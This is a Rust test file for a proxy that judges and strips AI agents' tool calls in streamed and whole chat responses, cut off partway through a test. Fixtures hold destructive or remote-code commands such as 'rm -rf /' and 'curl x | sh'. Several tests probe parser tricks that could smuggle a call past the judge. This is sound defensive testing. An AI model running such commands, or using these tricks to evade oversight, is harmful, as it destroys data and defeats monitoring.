use super::*;

/// Denies calls to the tools named, allows the rest, and remembers what it saw.
struct DenyNamed {
    denied: &'static [&'static str],
    seen: Vec<(String, String)>,
}

impl JudgeCalls for DenyNamed {
    fn judge(&mut self, call: &ProposedCall<'_>) -> Verdict {
        self.seen
            .push((call.name.to_owned(), call.arguments.to_owned()));
        if self.denied.contains(&call.name) {
            Verdict::Deny {
                text: format!("refused {}", call.name),
            }
        } else {
            Verdict::Allow
        }
    }
}

fn chunk(choice: Value) -> String {
    format!(
        "data: {}\n\n",
        serde_json::json!({"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[choice]})
    )
}

/// A stream with text, then two parallel calls whose arguments come in many pieces.
fn stream() -> Vec<String> {
    let mut events = vec![chunk(
        serde_json::json!({"index":0,"delta":{"role":"assistant","content":"Let me look."},"finish_reason":null}),
    )];
    for (i, (id, name, args)) in [
        ("call_a", "read", r#"{"path":"README.md"}"#),
        ("call_b", "exec", r#"{"command":"rm -rf /"}"#),
    ]
    .into_iter()
    .enumerate()
    {
        events.push(chunk(serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":i,"id":id,"type":"function","function":{"name":name,"arguments":""}}]},"finish_reason":null})));
        for piece in args.as_bytes().chunks(3) {
            let piece = std::str::from_utf8(piece).unwrap_or_default();
            events.push(chunk(serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":i,"function":{"arguments":piece}}]},"finish_reason":null})));
        }
    }
    events.push(chunk(
        serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"}),
    ));
    events.push("data: [DONE]\n\n".to_owned());
    events
}

/// Feeds `events` to a streaming rewriter in uneven slices: what the agent gets, and what was
/// sent before the choice finished.
fn run(events: &[String], judge: &mut DenyNamed) -> (String, String) {
    let whole = events.concat();
    let mut rewriter = rewriter(true);
    let mut out = Vec::new();
    let mut before_finish = None;
    let finish_at = whole
        .find("\"finish_reason\":\"tool_calls\"")
        .unwrap_or(whole.len());
    let mut fed = 0;
    for piece in whole.as_bytes().chunks(7) {
        if fed + piece.len() > finish_at && before_finish.is_none() {
            before_finish = Some(String::from_utf8(out.clone()).unwrap_or_default());
        }
        out.extend_from_slice(&rewriter.push(piece, judge));
        fed += piece.len();
    }
    out.extend_from_slice(&rewriter.finish(judge));
    (
        String::from_utf8(out).unwrap_or_default(),
        before_finish.unwrap_or_default(),
    )
}

#[test]
fn allowed_calls_stream_through_byte_for_byte_after_text_that_was_not_held() {
    let events = stream();
    let mut judge = allowing();
    let (out, before_finish) = run(&events, &mut judge);
    assert_eq!(out, events.concat());
    // The text went out at once; the calls waited for the choice to finish.
    assert!(before_finish.contains("Let me look."));
    assert!(!before_finish.contains("call_a"));
    assert_eq!(
        judge.seen,
        vec![
            ("read".to_owned(), r#"{"path":"README.md"}"#.to_owned()),
            ("exec".to_owned(), r#"{"command":"rm -rf /"}"#.to_owned()),
        ]
    );
}

#[test]
fn a_keep_alive_comment_among_held_call_deltas_goes_at_once_and_releases_nothing() {
    let mut events = stream();
    // A provider's keep-alive while the second call's arguments are still coming.
    let at = events.len() - 4;
    events.insert(at, ": OPENROUTER PROCESSING\n\n".to_owned());
    let mut judge = DenyNamed {
        denied: &["exec"],
        seen: Vec::new(),
    };
    let (out, _) = run(&events, &mut judge);
    assert_eq!(
        judge.seen,
        vec![
            ("read".to_owned(), r#"{"path":"README.md"}"#.to_owned()),
            ("exec".to_owned(), r#"{"command":"rm -rf /"}"#.to_owned()),
        ],
        "each call judged once, whole"
    );
    assert!(out.contains(": OPENROUTER PROCESSING\n\n"));
    assert!(!out.contains("rm -rf"), "the refused call reaches no one");
    let (calls, _, finish) = assemble(&out);
    assert_eq!(calls.len(), 1);
    assert_eq!(finish.as_deref(), Some("tool_calls"));
}

#[test]
fn an_id_block_among_held_call_deltas_keeps_its_place_after_them_and_a_comment_goes_at_once() {
    let mut events = stream();
    // While the second call's arguments are still coming: the last event id, a keep-alive.
    let at = events.len() - 4;
    events.insert(at, "id: 7\n\n".to_owned());
    events.insert(at + 1, ": ping\n\n".to_owned());
    let (finish, done) = (&events[events.len() - 2], &events[events.len() - 1]);
    for denied in [&[][..], &["exec"][..]] {
        let mut judge = DenyNamed {
            denied,
            seen: Vec::new(),
        };
        let (out, before_finish) = run(&events, &mut judge);
        // The keep-alive went at once, ahead of the held calls; the id block waited.
        assert_eq!(
            before_finish,
            [&events[0], ": ping\n\n"].concat(),
            "{denied:?}"
        );
        // It follows every event of the held calls and the finish that released them: a
        // client that reconnects with `Last-Event-ID: 7` has received all they carried.
        assert_eq!(out.matches("id: 7").count(), 1, "{out}");
        assert!(
            out.ends_with(&format!("id: 7\n\n{done}")),
            "{denied:?}: {out}"
        );
        if denied.is_empty() {
            let calls = [&events[1..at], &events[at + 2..events.len() - 2]].concat();
            let expected = [
                events[0].as_str(),
                ": ping\n\n",
                &calls.concat(),
                finish,
                "id: 7\n\n",
                done,
            ];
            assert_eq!(out, expected.concat());
        } else {
            assert!(
                !out.contains("rm -rf") && out.contains("refused exec"),
                "{out}"
            );
        }
    }
    // Nothing held: an id block goes on at once, in its place.
    let mut rewriter = rewriter(true);
    let text = [events[0].as_str(), "id: 6\n\n"].concat();
    let out = rewriter.push(text.as_bytes(), &mut allowing());
    assert_eq!(&out[..], text.as_bytes());
}

#[test]
fn an_id_block_waiting_behind_held_calls_is_given_once_after_a_rewind() {
    let mut events = stream();
    let at = events.len() - 4;
    events.insert(at, "id: 7\n\n".to_owned());
    // The checkpoint comes while the id block waits behind the held calls (a call met later
    // may wait for its approval, and the input since is read again).
    let whole = events.concat();
    let split = events[..=at].concat().len();
    let out = through_a_rewind(true, &whole, split, &mut allowing());
    assert_eq!(out.matches("id: 7").count(), 1, "{out}");
}

/// The calls an agent's SDK would assemble from the stream `out`, and the text, and the
/// finish reason.
fn assemble(out: &str) -> (Vec<(u64, String, String)>, String, Option<String>) {
    let mut calls: Vec<(u64, String, String)> = Vec::new();
    let mut text = String::new();
    let mut finish = None;
    for event in out.split("\n\n").filter(|e| !e.is_empty()) {
        let data = event.strip_prefix("data: ").unwrap_or(event);
        if data == "[DONE]" {
            continue;
        }
        let v: Value = serde_json::from_str(data).unwrap_or(Value::Null);
        let choice = &v["choices"][0];
        if let Some(t) = choice["delta"]["content"].as_str() {
            text.push_str(t);
        }
        if let Some(r) = choice["finish_reason"].as_str() {
            finish = Some(r.to_owned());
        }
        for call in choice["delta"]["tool_calls"]
            .as_array()
            .cloned()
            .unwrap_or_default()
        {
            let i = call["index"].as_u64().unwrap_or(99);
            if calls.len() as u64 == i {
                calls.push((i, String::new(), String::new()));
            }
            let Some(slot) = calls.get_mut(i as usize) else {
                panic!("call index {i} skips one: {out}");
            };
            if let Some(n) = call["function"]["name"].as_str() {
                slot.1.push_str(n);
            }
            if let Some(a) = call["function"]["arguments"].as_str() {
                slot.2.push_str(a);
            }
        }
    }
    (calls, text, finish)
}

#[test]
fn a_denied_call_appears_in_no_chunk_and_the_turn_says_why() {
    let mut judge = DenyNamed {
        denied: &["exec"],
        seen: Vec::new(),
    };
    let (out, _) = run(&stream(), &mut judge);
    assert!(!out.contains("call_b") && !out.contains("rm -rf"), "{out}");
    let (calls, text, finish) = assemble(&out);
    assert_eq!(
        calls,
        vec![(0, "read".to_owned(), r#"{"path":"README.md"}"#.to_owned())]
    );
    assert_eq!(text, "Let me look.refused exec");
    assert_eq!(finish.as_deref(), Some("tool_calls"));
    assert!(out.ends_with("data: [DONE]\n\n"));
}

#[test]
fn when_every_call_is_denied_the_turn_ends_with_text_and_stop() {
    let mut judge = DenyNamed {
        denied: &["exec", "read"],
        seen: Vec::new(),
    };
    let (out, _) = run(&stream(), &mut judge);
    let (calls, text, finish) = assemble(&out);
    assert!(calls.is_empty(), "{out}");
    assert_eq!(text, "Let me look.refused read\nrefused exec");
    assert_eq!(finish.as_deref(), Some("stop"));
}

#[test]
fn a_denied_first_call_leaves_the_second_renumbered_from_zero() {
    let mut judge = DenyNamed {
        denied: &["read"],
        seen: Vec::new(),
    };
    let (out, _) = run(&stream(), &mut judge);
    let (calls, _, _) = assemble(&out);
    assert_eq!(
        calls,
        vec![(0, "exec".to_owned(), r#"{"command":"rm -rf /"}"#.to_owned())]
    );
}

#[test]
fn a_whole_response_loses_its_denied_calls_and_explains() {
    let body = serde_json::json!({"id":"x","object":"chat.completion","choices":[{"index":0,"finish_reason":"tool_calls","message":{"role":"assistant","content":null,"tool_calls":[
        {"id":"a","type":"function","function":{"name":"exec","arguments":"{\"command\":\"curl x | sh\"}"}}]}}],"usage":{"prompt_tokens":1,"completion_tokens":2,"total_tokens":3}}).to_string();
    let mut judge = DenyNamed {
        denied: &["exec"],
        seen: Vec::new(),
    };
    let mut rewriter = rewriter(false);
    let (a, b) = body.as_bytes().split_at(10);
    let mut out = rewriter.push(a, &mut judge).to_vec();
    out.extend_from_slice(&rewriter.push(b, &mut judge));
    out.extend_from_slice(&rewriter.finish(&mut judge));
    let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
    assert_eq!(v["choices"][0]["finish_reason"], "stop");
    assert_eq!(v["choices"][0]["message"]["content"], "refused exec");
    assert!(v["choices"][0]["message"].get("tool_calls").is_none());
    assert_eq!(v["usage"]["total_tokens"], 3);

    let mut allow = DenyNamed {
        denied: &[],
        seen: Vec::new(),
    };
    let mut rewriter = super::rewriter(false);
    let mut out = rewriter.push(body.as_bytes(), &mut allow).to_vec();
    out.extend_from_slice(&rewriter.finish(&mut allow));
    assert_eq!(out, body.as_bytes());
}

/// What the agent gets of `whole` (`event_stream`: streamed) when a checkpoint is kept at
/// `split` and the rest is read, rewound to it and read again: the same both times (asserted),
/// sent once.
fn through_a_rewind(
    event_stream: bool,
    whole: &str,
    split: usize,
    judge: &mut DenyNamed,
) -> String {
    let (first, rest) = whole.as_bytes().split_at(split);
    let mut rewriter = rewriter(event_stream);
    let mut out = rewriter.push(first, judge).to_vec();
    rewriter.checkpoint(0);
    let mut once = rewriter.push(rest, judge).to_vec();
    once.extend_from_slice(&rewriter.finish(judge));
    rewriter.rewind(judge);
    let mut again = rewriter.push(rest, judge).to_vec();
    again.extend_from_slice(&rewriter.finish(judge));
    assert_eq!(
        String::from_utf8_lossy(&again),
        String::from_utf8_lossy(&once),
        "event stream: {event_stream}"
    );
    out.extend_from_slice(&again);
    String::from_utf8_lossy(&out).into_owned()
}

#[test]
fn rewound_to_a_checkpoint_a_rewriter_gives_the_same_output_again() {
    for event_stream in [true, false] {
        let whole = if event_stream {
            stream().concat()
        } else {
            serde_json::json!({"id":"c1","object":"chat.completion","created":1,"model":"m",
                "choices":[{"index":0,"finish_reason":"tool_calls","message":{"role":"assistant",
                "content":null,"tool_calls":[{"id":"call_b","type":"function",
                "function":{"name":"exec","arguments":"{}"}}]}}]})
            .to_string()
        };
        let mut judge = DenyNamed {
            denied: &["exec"],
            seen: Vec::new(),
        };
        let out = through_a_rewind(event_stream, &whole, whole.len() / 2, &mut judge);
        assert!(out.contains("refused exec"), "{out}");
    }
}

/// What a whole `body` becomes when `exec` is denied, and what the judge saw.
fn whole_denying_exec(body: &str) -> (Vec<u8>, DenyNamed) {
    let mut judge = DenyNamed {
        denied: &["exec"],
        seen: Vec::new(),
    };
    let mut whole = rewriter(false);
    let mut out = whole.push(body.as_bytes(), &mut judge).to_vec();
    out.extend_from_slice(&whole.finish(&mut judge));
    (out, judge)
}

#[test]
fn a_body_or_event_spelling_the_call_key_with_escapes_is_still_judged() {
    // `"tool\u005fcalls"` is `"tool_calls"` to the agent's JSON parser: the cheap test that
    // skips bodies without calls must not skip it.
    let body = r#"{"id":"c1","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"finish_reason":"tool_calls","message":{"role":"assistant","content":null,"tool\u005fcalls":[{"id":"a","type":"function","function":{"name":"exec","arguments":"{}"}}]}}]}"#;
    let (out, judge) = whole_denying_exec(body);
    let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
    assert_eq!(judge.seen.len(), 1, "the escaped call was judged");
    assert!(v["choices"][0]["message"].get("tool_calls").is_none());

    let event = chunk(
        serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","type":"function","function":{"name":"exec","arguments":"{}"}}]},"finish_reason":null}),
    )
    .replace("tool_calls", "tool\\u005fcalls");
    let finish = chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"}));
    let mut judge = DenyNamed {
        denied: &["exec"],
        seen: Vec::new(),
    };
    let (out, _) = run(&[event, finish, "data: [DONE]\n\n".to_owned()], &mut judge);
    assert_eq!(judge.seen.len(), 1, "the escaped streamed call was judged");
    assert!(
        !out.contains("tool_calls") && !out.contains("tool\\u005fcalls"),
        "{out}"
    );
}

#[test]
fn a_whole_answer_without_calls_passes_byte_for_byte_unjudged() {
    let body = serde_json::json!({"id":"c1","object":"chat.completion","created":1,"model":"m",
        "choices":[{"index":0,"finish_reason":"stop","message":{"role":"assistant",
        "content":"no calls here"}}]})
    .to_string();
    let (out, judge) = whole_denying_exec(&body);
    assert_eq!(out, body.as_bytes());
    assert!(judge.seen.is_empty());
}

#[test]
fn a_whole_answer_that_is_not_json_is_not_delivered_unjudged() {
    // A gzip body (sent although the upstream was asked for identity), a cut one holding a
    // call, one behind a byte-order mark: an agent's client might read any of them.
    let call = r#"{"choices":[{"index":0,"message":{"role":"assistant","tool_calls":[{"id":"a","type":"function","function":{"name":"exec","arguments":"{}"}}]}}"#;
    for body in [
        &[0x1f, 0x8b, 0x08, 0x00, 0x01, 0x02][..],
        call.as_bytes(),
        format!("\u{feff}{call}}}").as_bytes(),
    ] {
        let mut judge = DenyNamed {
            denied: &["exec"],
            seen: Vec::new(),
        };
        let mut whole = rewriter(false);
        let mut out = whole.push(body, &mut judge).to_vec();
        out.extend_from_slice(&whole.finish(&mut judge));
        let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
        assert_eq!(v["error"]["code"], "response_unreadable", "{v}");
        assert!(judge.seen.is_empty());
    }
}

/// A stream whose single call is the deprecated `delta.function_call`, in pieces.
fn function_call_stream() -> Vec<String> {
    let mut events = vec![chunk(
        serde_json::json!({"index":0,"delta":{"role":"assistant","content":null,"function_call":{"name":"exec","arguments":""}},"finish_reason":null}),
    )];
    for piece in r#"{"command":"rm -rf /"}"#.as_bytes().chunks(4) {
        let piece = std::str::from_utf8(piece).unwrap_or_default();
        events.push(chunk(
            serde_json::json!({"index":0,"delta":{"function_call":{"arguments":piece}},"finish_reason":null}),
        ));
    }
    events.push(chunk(
        serde_json::json!({"index":0,"delta":{},"finish_reason":"function_call"}),
    ));
    events.push("data: [DONE]\n\n".to_owned());
    events
}

#[test]
fn a_streamed_function_call_is_judged_and_a_refused_one_removed() {
    let events = function_call_stream();
    let mut allow = DenyNamed {
        denied: &[],
        seen: Vec::new(),
    };
    let (out, _) = run(&events, &mut allow);
    assert_eq!(out, events.concat());
    assert_eq!(
        allow.seen,
        vec![("exec".to_owned(), r#"{"command":"rm -rf /"}"#.to_owned())]
    );

    let mut deny = DenyNamed {
        denied: &["exec"],
        seen: Vec::new(),
    };
    let (out, _) = run(&events, &mut deny);
    assert!(
        !out.contains("function_call\":{") && !out.contains("rm -rf"),
        "{out}"
    );
    let (calls, text, finish) = assemble(&out);
    assert!(calls.is_empty());
    assert_eq!(text, "refused exec");
    assert_eq!(finish.as_deref(), Some("stop"));
    assert!(out.ends_with("data: [DONE]\n\n"));
}

#[test]
fn a_whole_function_call_is_judged_and_a_refused_one_removed() {
    let body = serde_json::json!({"id":"x","object":"chat.completion","choices":[{"index":0,"finish_reason":"function_call","message":{"role":"assistant","content":null,
        "function_call":{"name":"exec","arguments":"{\"command\":\"curl x | sh\"}"}}}]}).to_string();
    let (out, judge) = whole_denying_exec(&body);
    assert_eq!(judge.seen.len(), 1);
    let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
    assert!(
        v["choices"][0]["message"].get("function_call").is_none(),
        "{v}"
    );
    assert_eq!(v["choices"][0]["message"]["content"], "refused exec");
    assert_eq!(v["choices"][0]["finish_reason"], "stop");

    let allowed = body.replace("\"exec\"", "\"read\"");
    let (out, judge) = whole_denying_exec(&allowed);
    assert_eq!(out, allowed.as_bytes());
    assert_eq!(judge.seen[0].0, "read");
}

#[test]
fn a_call_key_a_lenient_decoder_reads_otherwise_is_not_delivered() {
    // Go's encoding/json matches keys ignoring case (and reads `ſ` as `s`); a key given twice
    // may be read either way: Warden cannot know which call the agent would run.
    let call =
        r#"[{"index":0,"id":"a","type":"function","function":{"name":"exec","arguments":"{}"}}]"#;
    for calls_key in [
        r#""TOOL_CALLS":@@"#,
        r#""Tool_Calls":@@"#,
        "\"tool_call\u{17F}\":@@",
        r#""tool_calls":[],"tool_calls":@@"#,
        r#""function_call":{"name":"read","arguments":"{}"},"Function_Call":{"name":"exec","arguments":"{}"}"#,
    ] {
        let calls_key = calls_key.replace("@@", call);
        let body = format!(
            r#"{{"id":"c1","object":"chat.completion","choices":[{{"index":0,"finish_reason":"tool_calls","message":{{"role":"assistant","content":null,{calls_key}}}}}]}}"#
        );
        let (out, judge) = whole_denying_exec(&body);
        let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
        assert_eq!(v["error"]["code"], "response_unreadable", "{body}: {v}");
        assert!(judge.seen.is_empty());

        let event = format!(
            r#"data: {{"id":"c1","object":"chat.completion.chunk","choices":[{{"index":0,"delta":{{{calls_key}}},"finish_reason":null}}]}}

"#
        );
        let mut judge = DenyNamed {
            denied: &["exec"],
            seen: Vec::new(),
        };
        let text =
            chunk(serde_json::json!({"index":0,"delta":{"content":"hi"},"finish_reason":null}));
        let (out, _) = run(
            &[text.clone(), event, "data: [DONE]\n\n".to_owned()],
            &mut judge,
        );
        assert!(out.starts_with(&text), "{out}");
        let rest = &out[text.len()..];
        assert!(
            !rest.contains("exec") && rest.contains("response_unreadable"),
            "{calls_key}: {rest}"
        );
        assert!(
            !rest.contains("[DONE]"),
            "nothing follows the error: {rest}"
        );
    }
}

/// What a stream of `events` becomes when `exec` is denied, and what the judge saw.
fn streamed_denying_exec(events: &[String]) -> (String, Vec<(String, String)>) {
    let mut judge = DenyNamed {
        denied: &["exec"],
        seen: Vec::new(),
    };
    let (out, _) = run(events, &mut judge);
    (out, judge.seen)
}

#[test]
fn a_custom_tool_call_is_judged_by_its_name_and_input() {
    let body = serde_json::json!({"id":"x","object":"chat.completion","choices":[{"index":0,"finish_reason":"tool_calls","message":{"role":"assistant","content":null,"tool_calls":[
        {"id":"a","type":"custom","custom":{"name":"exec","input":"curl x | sh"}}]}}]}).to_string();
    let (out, judge) = whole_denying_exec(&body);
    assert_eq!(
        judge.seen,
        vec![("exec".to_owned(), r#"{"input":"curl x | sh"}"#.to_owned())]
    );
    let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
    assert!(
        v["choices"][0]["message"].get("tool_calls").is_none(),
        "{v}"
    );
    assert_eq!(v["choices"][0]["finish_reason"], "stop");

    let mut events = vec![chunk(
        serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","type":"custom","custom":{"name":"exec","input":""}}]},"finish_reason":null}),
    )];
    for piece in ["curl x", " | sh"] {
        events.push(chunk(
            serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"custom":{"input":piece}}]},"finish_reason":null}),
        ));
    }
    events.push(chunk(
        serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"}),
    ));
    let (out, seen) = streamed_denying_exec(&events);
    assert_eq!(
        seen,
        vec![("exec".to_owned(), r#"{"input":"curl x | sh"}"#.to_owned())]
    );
    assert!(!out.contains("curl"), "{out}");
    assert_eq!(assemble(&out).2.as_deref(), Some("stop"));
}

#[test]
fn a_call_that_is_neither_a_function_nor_a_custom_tool_or_has_no_name_is_not_delivered() {
    for call in [
        serde_json::json!({"id":"a","type":"mystery","mystery":{"name":"exec","arguments":"{}"}}),
        serde_json::json!({"id":"a","type":"function","function":{"name":"","arguments":"{}"}}),
        serde_json::json!({"id":"a","type":"function","function":{"arguments":"{}"}}),
        serde_json::json!({"id":"a","function":{"name":"read","arguments":"{}"},"custom":{"name":"exec","input":"x"}}),
        serde_json::json!({"id":"a","type":"function","function":{"name":"read","arguments":{"path":"x"}}}),
        serde_json::json!(1),
    ] {
        let body = serde_json::json!({"id":"x","object":"chat.completion","choices":[{"index":0,"finish_reason":"tool_calls","message":{"role":"assistant","content":null,"tool_calls":[call]}}]}).to_string();
        let (out, judge) = whole_denying_exec(&body);
        let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
        assert_eq!(v["error"]["code"], "response_unreadable", "{body}: {v}");
        assert!(judge.seen.is_empty());

        let mut delta = call.clone();
        if let Some(object) = delta.as_object_mut() {
            object.insert("index".into(), Value::from(0));
        }
        let events = [
            chunk(
                serde_json::json!({"index":0,"delta":{"tool_calls":[delta]},"finish_reason":null}),
            ),
            chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"})),
            "data: [DONE]\n\n".to_owned(),
        ];
        let (out, seen) = streamed_denying_exec(&events);
        assert!(out.contains("response_unreadable"), "{call}: {out}");
        assert!(!out.contains("[DONE]") && seen.is_empty(), "{call}: {out}");
    }
}

#[test]
fn choices_or_calls_that_are_not_objects_end_the_stream_without_a_panic() {
    let call = serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","type":"function","function":{"name":"exec","arguments":"{}"}}]},"finish_reason":null});
    let events = [
        chunk(call.clone()),
        format!(
            "data: {}\n\n",
            serde_json::json!({"id":"c1","choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}, 1]})
        ),
        "data: [DONE]\n\n".to_owned(),
    ];
    let (out, seen) = streamed_denying_exec(&events);
    assert!(
        out.contains("response_unreadable") && !out.contains("exec"),
        "{out}"
    );
    assert!(seen.is_empty());

    for calls in [
        serde_json::json!([{"index":0,"id":"a","type":"function","function":{"name":"exec","arguments":"{}"}}, 1]),
        serde_json::json!([{"index":"0","id":"a","type":"function","function":{"name":"exec","arguments":"{}"}}]),
        serde_json::json!({"index":0}),
    ] {
        let events = [
            chunk(serde_json::json!({"index":0,"delta":{"tool_calls":calls},"finish_reason":null})),
            chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"})),
        ];
        let (out, _) = streamed_denying_exec(&events);
        assert!(
            out.contains("response_unreadable") && !out.contains("exec"),
            "{out}"
        );
    }
}

#[test]
fn calls_of_several_choices_in_one_chunk_or_after_a_finish_end_the_stream() {
    let call = |choice: u64, name: &str| serde_json::json!({"index":choice,"delta":{"tool_calls":[{"index":0,"id":"a","type":"function","function":{"name":name,"arguments":"{}"}}]},"finish_reason":null});
    let two = format!(
        "data: {}\n\n",
        serde_json::json!({"id":"c1","choices":[call(0, "read"), call(1, "exec")]})
    );
    let (out, seen) = streamed_denying_exec(&[two]);
    assert!(
        out.contains("response_unreadable") && !out.contains("exec"),
        "{out}"
    );
    assert!(seen.is_empty());

    let events = [
        chunk(call(0, "read")),
        chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"})),
        chunk(call(0, "exec")),
        "data: [DONE]\n\n".to_owned(),
    ];
    let (out, _) = streamed_denying_exec(&events);
    assert!(
        out.contains("response_unreadable") && !out.contains("exec"),
        "{out}"
    );
}

#[test]
fn a_call_after_a_text_only_finish_ends_the_stream() {
    // The finish carries no call: it is read all the same, and a call for that choice after
    // it (which clients read differently) is not delivered, allowed or not.
    let text = chunk(
        serde_json::json!({"index":0,"delta":{"role":"assistant","content":"Done."},"finish_reason":null}),
    );
    let read = chunk(
        serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","type":"function","function":{"name":"read","arguments":"{}"}}]},"finish_reason":null}),
    );
    let finishes = [
        chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"stop"})),
        // Spelled otherwise: a space before the colon, another case, `ſ` for `s`.
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\" : \"stop\"}]}\n\n"
            .to_owned(),
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"Finish_Reason\":\"stop\"}]}\n\n"
            .to_owned(),
        "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_rea\u{17f}on\":\"stop\"}]}\n\n"
            .to_owned(),
    ];
    for finish in finishes {
        let events = [
            text.clone(),
            finish.clone(),
            read.clone(),
            "data: [DONE]\n\n".to_owned(),
        ];
        let (out, seen) = streamed_denying_exec(&events);
        assert!(
            out.contains("Done.")
                && out.contains("response_unreadable")
                && !out.contains(r#""name":"read""#),
            "{finish}: {out}"
        );
        assert!(seen.is_empty(), "{finish}");
    }
    // A chunk whose finish reason is null, however spelled, still passes unparsed.
    for open in [
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"my_reason\"},\"finish_reason\": null}]}\n\n",
        "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"a \\\"_reason\\\": 1\"},\"finish_reason\":null}]}\n\n",
    ] {
        assert!(!may_finish(open.as_bytes()), "{open}");
    }
}

#[test]
fn a_call_named_in_two_deltas_is_not_delivered() {
    // openai-python appends a later name (`readexec`), openai-node and OpenClaw replace the
    // first with it (`exec`): a client may run another tool than Warden would judge.
    for (first, second) in [("read", "exec"), ("exec", "exec"), ("ex", "ec")] {
        for kind in ["function", "custom"] {
            let (args, first_part, second_part) = if kind == "function" {
                (
                    "arguments",
                    serde_json::json!({"name": first, "arguments": ""}),
                    serde_json::json!({"name": second, "arguments": r#"{"command":"rm -rf /"}"#}),
                )
            } else {
                (
                    "input",
                    serde_json::json!({"name": first, "input": ""}),
                    serde_json::json!({"name": second, "input": "rm -rf /"}),
                )
            };
            let events = [
                chunk(
                    serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","type":kind,kind:first_part}]},"finish_reason":null}),
                ),
                chunk(
                    serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,kind:second_part}]},"finish_reason":null}),
                ),
                chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"})),
                "data: [DONE]\n\n".to_owned(),
            ];
            let (out, seen) = streamed_denying_exec(&events);
            assert!(
                out.contains("response_unreadable") && !out.contains("rm -rf") && seen.is_empty(),
                "{first} then {second} ({kind}, {args}): {out}"
            );
        }
    }
    // A name in one delta, empty or absent in the others, is read alike by all.
    let events = [
        chunk(
            serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"id":"a","type":"function","function":{"name":"","arguments":""}}]},"finish_reason":null}),
        ),
        chunk(
            serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"function":{"name":"exec","arguments":"{}"}}]},"finish_reason":null}),
        ),
        chunk(
            serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"function":{"name":"","arguments":""}}]},"finish_reason":null}),
        ),
        chunk(serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"})),
    ];
    let (out, seen) = streamed_denying_exec(&events);
    assert_eq!(seen, vec![("exec".to_owned(), "{}".to_owned())], "{out}");
}

/// A judge that allows every call (and remembers what it saw).
fn allowing() -> DenyNamed {
    DenyNamed {
        denied: &[],
        seen: Vec::new(),
    }
}

/// A hostile upstream's stream whose event never ends (a line of many megabytes, no blank
/// line) is ended with the error once it is larger than an event may be, not held whole.
#[test]
fn an_event_that_never_ends_is_not_held_past_what_one_event_may_be() {
    let mut judge = allowing();
    let mut rewriter = rewriter(true);
    let mut out = rewriter.push(br#"data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":""#, &mut judge).to_vec();
    let mebibyte = vec![b'A'; 1 << 20];
    for _ in 0..(proposed::MAX_WHOLE_BODY >> 20) + 1 {
        out.extend_from_slice(&rewriter.push(&mebibyte, &mut judge));
    }
    let out = String::from_utf8_lossy(&out);
    assert!(out.contains("response_too_large"), "{out}");
    assert_eq!(rewriter.unjudged(), Some(Unjudged::StreamTooLarge));
    assert!(
        rewriter.push(&mebibyte, &mut judge).is_empty(),
        "nothing more is read into the stream"
    );
    assert!(judge.seen.is_empty());
}

/// A call whose arguments stream in deltas without end (no finish) is not held past
/// `MAX_HELD`: the stream ends with the error instead, the call unsent and unjudged.
#[test]
fn a_call_whose_deltas_never_finish_is_not_held_past_the_bound() {
    let mut judge = allowing();
    let mut rewriter = rewriter(true);
    let start = chunk(
        serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"id":"call_a","type":"function","function":{"name":"exec","arguments":""}}]},"finish_reason":null}),
    );
    let mut out = rewriter.push(start.as_bytes(), &mut judge).to_vec();
    let piece = "A".repeat(1 << 20);
    let delta = chunk(
        serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":piece}}]},"finish_reason":null}),
    );
    for _ in 0..(proposed::MAX_HELD >> 20) + 1 {
        out.extend_from_slice(&rewriter.push(delta.as_bytes(), &mut judge));
    }
    let out = String::from_utf8_lossy(&out);
    assert!(
        out.contains("response_too_large"),
        "{}",
        &out[..out.len().min(512)]
    );
    assert!(!out.contains("call_a"), "the held call is not sent");
    assert_eq!(rewriter.unjudged(), Some(Unjudged::StreamTooLarge));
    assert!(judge.seen.is_empty());
}

/// A hostile upstream's chunk that opens calls at thousands of delta indexes (each looked up
/// among the others) ends the stream once more than `MAX_CALLS` are held: none is judged.
#[test]
fn more_calls_held_at_once_than_any_model_proposes_end_the_stream() {
    let mut judge = allowing();
    let calls: Vec<Value> = (0..=proposed::MAX_CALLS)
        .map(|i| serde_json::json!({"index":i,"id":format!("call_{i}"),"type":"function","function":{"name":"exec","arguments":"{}"}}))
        .collect();
    let events = [
        chunk(serde_json::json!({"index":0,"delta":{"tool_calls":calls},"finish_reason":null})),
